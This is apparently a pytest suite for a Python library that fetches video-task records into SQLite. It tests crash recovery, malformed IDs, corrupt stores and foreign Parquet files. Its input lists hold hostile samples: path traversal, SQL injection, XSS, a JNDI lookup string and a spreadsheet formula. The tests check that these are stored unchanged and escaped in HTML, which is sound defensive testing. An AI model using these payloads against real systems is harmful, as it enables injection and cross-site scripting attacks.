"""Reliability: a short fault campaign, SIGKILL mid-fetch, and bad input of every kind.

The campaign and the crash trials are the functions of ``bench/faults.py`` and
``bench/crash.py``, run small; bad input must give a clear error or a flagged row, and
never overwrite anything.
"""

from __future__ import annotations

import hashlib
import importlib.util
import io
import random
import signal
import sqlite3
import sys
from pathlib import Path
from types import ModuleType

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import SENTINEL_KEY

from veo_notebook import (
    Client,
    InputError,
    SchemaVersionError,
    Store,
    StoreError,
    fetch_records,
    read_task_ids,
)
from veo_notebook.frame import from_store
from veo_notebook.simulator import Simulator

ROOT = Path(__file__).resolve().parent.parent
NULL = "422 record is null."


def _bench(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(f"_bench_{name}", ROOT / "bench" / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


faults = _bench("faults")
crash = _bench("crash")


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- the fault campaign -----------------------------------------------------------------
def test_fault_campaign_returns_every_id_once_despite_every_fault_kind(tmp_path):
    c = faults.run_campaign(300, seed=1, backoff=0.05, rate_limit=40, store_dir=tmp_path)
    assert faults.check(c) == []
    outcomes = c.stats["by_outcome"]
    for kind in faults.RATES:  # each kind scripted twice in a row on one id, plus the rates
        assert outcomes.get(kind, 0) >= 2, kind
    assert c.expired and c.unknown and len(c.ids) > len(c.unique)  # 422s and repeats present
    assert c.stats["requests"] >= len(c.unique) + 2 * len(faults.RATES)  # retries happened
    assert c.throttled >= 2  # the scripted 429s reached the limiter
    table = faults.table(c)
    assert "duplicate rows (frame + store)" in table and "fault slow" in table


# --- SIGKILL mid-fetch ------------------------------------------------------------------
def test_ctrl_c_and_sigkill_mid_fetch_keep_the_store_and_resume_fetches_only_the_rest(tmp_path):
    with Simulator(SENTINEL_KEY, n_tasks=1000, latency=0.002, clock_speed=0) as sim:
        ids = crash.make_ids(sim, 1000)
        runs = crash.trial(
            sim,
            ids,
            tmp_path,
            kills=2,
            rng=random.Random(7),
            key=SENTINEL_KEY,
            signals=[signal.SIGINT, signal.SIGKILL],  # a Ctrl-C, then a kill
        )
    assert crash.problems(runs, ids) == []
    assert runs[0].unsaved == 0  # Ctrl-C commits every answer it has
    assert runs[1].unsaved <= 50  # a kill loses at most the uncommitted batch
    assert [r.killed_after is not None for r in runs] == [True, True, False]  # killed mid-run
    assert 0 < len(runs[0].after.held) < len(set(ids))
    assert all(r.refetched_terminal == 0 for r in runs)
    last = runs[-1]
    assert last.queried == set(ids) - last.before.terminal
    assert last.after.held == set(ids)


# --- odd, blank and hostile ids ---------------------------------------------------------
ODD_IDS = [
    "a&b=c",
    "x&taskId=veo_task_1",
    "frag#ment",
    "q?taskId=veo_task_2",
    "../../etc/passwd",
    "a/b/c",
    "with inner space",
    "plus+sign",
    "percent%20%41",
    "semi;colon,comma",
    "line\nbreak\ttab",
    "ünïcødé 视频 🎬",
    "zero\u200bwidth",
    "'; DROP TABLE records; --",
    "<script>alert(1)</script>",
    "x" * 10_000,
]


def test_odd_ids_reach_the_server_exactly_as_given_and_become_flagged_rows(fresh_sim, tmp_path):
    sim = fresh_sim(n_tasks=50)
    client = Client(SENTINEL_KEY, base_url=sim.base_url)
    df = fetch_records(ODD_IDS, client=client, store=tmp_path / "s.sqlite", progress=False)
    assert df["task_id"].tolist() == ODD_IDS
    assert df["fetch_error"].tolist() == [NULL] * len(ODD_IDS)
    assert set(sim.stats()["by_task"]) == set(ODD_IDS)  # received == sent, query not altered
    with Store(tmp_path / "s.sqlite") as st:
        assert sorted(st.ids()) == sorted(ODD_IDS)


def test_an_id_too_long_for_a_url_is_a_flagged_row_not_a_dead_batch(fresh_sim):
    sim = fresh_sim(n_tasks=20)
    good = sim.task_ids("terminal")[:3]
    huge = "视" * 10_000  # 90,000 characters once URL-encoded: HTTP 414 from the server
    ids = [good[0], huge, *good[1:]]
    df = fetch_records(ids, client=Client(SENTINEL_KEY, base_url=sim.base_url), progress=False)
    assert df["task_id"].tolist() == ids
    err = dict(zip(df["task_id"], df["fetch_error"], strict=True))
    assert str(err[huge]).startswith("414")
    assert all(pd.isna(err[g]) for g in good)


def test_blanks_none_numbers_and_duplicates(fresh_sim):
    sim = fresh_sim(n_tasks=20)
    a, b = sim.task_ids("terminal")[:2]
    ids = ["", "   ", None, float("nan"), pd.NA, a, 12345, "12345", a, "\t\n", b, b, 12345]
    df = fetch_records(ids, client=Client(SENTINEL_KEY, base_url=sim.base_url), progress=False)
    assert df["task_id"].tolist() == [a, "12345", b]
    assert df["fetch_error"].isna().tolist() == [True, False, True]
    assert sim.stats()["by_task"] == {a: 1, "12345": 1, b: 1}  # each unique id queried once


@pytest.mark.parametrize(
    "ids",
    [
        pytest.param(["veo_task_1", 1.5], id="float"),
        pytest.param(["veo_task_1", True], id="bool"),
        pytest.param(["veo_task_1", {"taskId": "x"}], id="dict"),
        pytest.param(["veo_task_1", b"bytes"], id="bytes"),
        pytest.param("veo_task_1", id="one-string"),
    ],
)
def test_ids_that_are_not_ids_are_an_input_error_before_any_request(fresh_sim, ids):
    sim = fresh_sim(n_tasks=5)
    with pytest.raises(InputError):
        fetch_records(ids, client=Client(SENTINEL_KEY, base_url=sim.base_url), progress=False)
    assert sim.stats()["requests"] == 0


def test_csv_without_an_id_column_is_an_input_error(tmp_path):
    path = tmp_path / "ids.csv"
    path.write_text("id,model\nveo_task_1,veo3\n", encoding="utf-8")
    before = _digest(path)
    with pytest.raises(InputError, match="taskId or task_id"):
        read_task_ids(path)
    assert _digest(path) == before
    assert read_task_ids(io.StringIO("\ufefftask_id;model\nt1;veo3\n;x\nt2;y\n")) == ["t1", "t2"]


def test_unreadable_id_file_is_an_input_error(tmp_path):
    path = tmp_path / "ids.txt"
    path.write_bytes(b"\xff\xfe\x00garbage\x80\x81")
    with pytest.raises(InputError):
        read_task_ids(path)
    with pytest.raises(InputError):
        read_task_ids(tmp_path / "missing.txt")


# --- stores that must not be touched ----------------------------------------------------
def _garbage(path: Path) -> Path:
    path.write_bytes(random.Random(3).randbytes(16_384))
    return path


def _other_sqlite(path: Path) -> Path:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE notes (x TEXT)")
    conn.execute("INSERT INTO notes VALUES ('mine')")
    conn.commit()
    conn.close()
    return path


def _store_with_version(path: Path, version: str) -> Path:
    with Store(path) as st:
        st.put("veo_task_1", None, fetched_at=1.0, fetch_error=NULL)
    conn = sqlite3.connect(path)
    conn.execute("UPDATE meta SET value = ? WHERE key = 'store_version'", (version,))
    conn.commit()
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return path


def _truncated(path: Path) -> Path:
    full = path.with_suffix(".full")
    with Store(full) as st:
        body = '{"code":200,"msg":"success","data":{"successFlag":1}}'
        st.put_many([(f"t{i}", body + " " * 400, 1.0, None) for i in range(2000)])
    data = full.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


@pytest.mark.parametrize(
    ("make", "error"),
    [
        pytest.param(_garbage, StoreError, id="garbage-bytes"),
        pytest.param(_other_sqlite, StoreError, id="another-sqlite-db"),
        pytest.param(lambda p: _store_with_version(p, "99"), SchemaVersionError, id="newer"),
        pytest.param(lambda p: _store_with_version(p, "v2?"), StoreError, id="bad-version"),
        pytest.param(_truncated, StoreError, id="truncated"),
    ],
)
def test_a_bad_store_is_a_clear_error_and_is_left_byte_for_byte(fresh_sim, tmp_path, make, error):
    path = make(tmp_path / "store.sqlite")
    before = _digest(path)
    with pytest.raises(error):
        Store(path)
    sim = fresh_sim(n_tasks=5)
    with pytest.raises(error):
        fetch_records(
            sim.task_ids()[:3],
            client=Client(SENTINEL_KEY, base_url=sim.base_url),
            store=path,
            progress=False,
        )
    assert sim.stats()["requests"] == 0  # refused before any query
    assert _digest(path) == before


# --- Parquet from elsewhere -------------------------------------------------------------
def _foreign(path: Path, table: pa.Table) -> Path:
    pq.write_table(table, path)
    return path


@pytest.mark.parametrize(
    ("make", "error"),
    [
        pytest.param(
            lambda p: _foreign(p, pa.table({"a": [1, 2], "b": ["x", "y"]})),
            InputError,
            id="no-task-id",
        ),
        pytest.param(
            lambda p: _foreign(p, pa.table({"task_id": ["t1"], "create_time": ["not a time"]})),
            InputError,
            id="wrong-types",
        ),
        pytest.param(
            lambda p: _foreign(
                p,
                pa.table({"task_id": ["t1"]}).replace_schema_metadata(
                    {b"veo_notebook.schema_version": b"999"}
                ),
            ),
            SchemaVersionError,
            id="newer-schema",
        ),
        pytest.param(
            lambda p: _foreign(
                p,
                pa.table({"task_id": ["t1"]}).replace_schema_metadata(
                    {b"veo_notebook.schema_version": b"two"}
                ),
            ),
            InputError,
            id="garbled-version",
        ),
        pytest.param(
            lambda p: p.write_bytes(b"PAR1" + random.Random(1).randbytes(4096) + b"PAR1") and p,
            InputError,
            id="garbage-bytes",
        ),
    ],
)
def test_parquet_from_another_tool_is_a_clear_error_and_left_unchanged(tmp_path, make, error):
    from veo_notebook import read_parquet

    path = make(tmp_path / "other.parquet")
    before = _digest(path)
    with pytest.raises(error):
        read_parquet(path)
    assert _digest(path) == before


def test_parquet_from_another_tool_with_a_task_id_column_reads_as_a_typed_frame(tmp_path):
    from veo_notebook import read_parquet, schema

    path = tmp_path / "pandas.parquet"
    pd.DataFrame({"task_id": ["t1", "t2"], "note": ["x", "y"]}).to_parquet(path)
    before = _digest(path)
    df = read_parquet(path)
    assert df["task_id"].tolist() == ["t1", "t2"]
    names = schema.column_names()
    assert list(df.columns)[: len(names)] == names  # typed; its own columns kept after
    assert _digest(path) == before


# --- hostile content in the records -----------------------------------------------------
HOSTILE_PROMPTS = [
    "<script>alert('prompt')</script>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    'Robert\'); DROP TABLE records;-- "quoted" `tick`',
    "line one\nline two\r\n\ttabbed, with commas; and semicolons",
    "nul \x00 bell \x07 escape \x1b[31m red",
    "RTL \u202e override, zero\u200bwidth, emoji 🎬🦄, 视频, ünïcødé",
    "{{7*7}} ${jndi:ldap://x.example/a} %s %n {0}",
    '=HYPERLINK("http://x.example","click")',
    "p" * 100_000,
]


def test_hostile_prompts_survive_store_frame_and_parquet_exactly_and_are_escaped_in_html(
    fresh_sim, tmp_path
):
    import requests

    from veo_notebook import read_parquet, report, to_parquet
    from veo_notebook.simulator import GENERATE_PATH

    sim = fresh_sim(n_tasks=5, clock_speed=0)
    headers = {"Authorization": f"Bearer {SENTINEL_KEY}", "User-Agent": "tests"}
    ids = []
    for prompt in HOSTILE_PROMPTS:
        r = requests.post(sim.base_url + GENERATE_PATH, json={"prompt": prompt}, headers=headers)
        ids.append(r.json()["data"]["taskId"])
    sim.advance(max(sim.task(t).complete_ts for t in ids) - sim.now() + 1)  # all finished
    client = Client(SENTINEL_KEY, base_url=sim.base_url)
    df = fetch_records(ids, client=client, store=tmp_path / "s.sqlite", progress=False)
    assert df["prompt"].tolist() == HOSTILE_PROMPTS
    assert df["fetch_error"].isna().all()
    with Store(tmp_path / "s.sqlite") as st:
        assert from_store(st, ids)["prompt"].tolist() == HOSTILE_PROMPTS
    back = read_parquet(to_parquet(df, tmp_path / "f.parquet"))
    assert back["prompt"].tolist() == HOSTILE_PROMPTS
    html = report(df, tmp_path / "r.html", figures=False).read_text(encoding="utf-8")
    assert "<script>alert(" not in html and "onerror=alert" not in html


# --- a kill while the store file is being created ---------------------------------------
_KILL_DURING_INIT = """
import os, signal, sqlite3, sys

class KillOnMetaInsert(sqlite3.Connection):  # SIGKILL between the tables and their meta rows
    def executemany(self, sql, params):
        if "meta" in sql:
            os.kill(os.getpid(), signal.SIGKILL)
        return super().executemany(sql, params)

real = sqlite3.connect
sqlite3.connect = lambda *a, **k: real(*a, factory=KillOnMetaInsert, **k)
from veo_notebook.store import Store
Store(sys.argv[1])
"""


def test_a_kill_while_the_store_is_created_leaves_a_file_that_still_opens(fresh_sim, tmp_path):
    import subprocess

    path = tmp_path / "new.sqlite"
    proc = subprocess.run(
        [sys.executable, "-c", _KILL_DURING_INIT, str(path)], capture_output=True, timeout=60
    )
    assert proc.returncode == -signal.SIGKILL, proc.stderr.decode()[-1000:]
    sim = fresh_sim(n_tasks=10)
    ids = sim.task_ids("terminal")[:3]
    df = fetch_records(
        ids, client=Client(SENTINEL_KEY, base_url=sim.base_url), store=path, progress=False
    )
    assert df["fetch_error"].isna().all()
    with Store(path) as st:
        assert sorted(st.ids()) == sorted(ids)


def test_two_fetches_into_one_store_at_once_neither_fails_nor_duplicates(fresh_sim, tmp_path):
    import threading

    sim = fresh_sim(n_tasks=900, latency=0.002)
    ids = sim.task_ids()
    path = tmp_path / "shared.sqlite"
    errors: list[BaseException] = []

    def run(part: list[str]) -> None:
        try:
            with Store(path) as st:  # each its own connection, as two processes would have
                client = Client(SENTINEL_KEY, base_url=sim.base_url)
                df = fetch_records(part, client=client, store=st, progress=False)
                assert df["task_id"].tolist() == part
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(p,)) for p in (ids[:600], ids[300:])]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=120)
    assert errors == []
    conn = sqlite3.connect(path)
    n, distinct = conn.execute("SELECT count(*), count(DISTINCT task_id) FROM records").fetchone()
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    conn.close()
    assert n == distinct == len(ids)
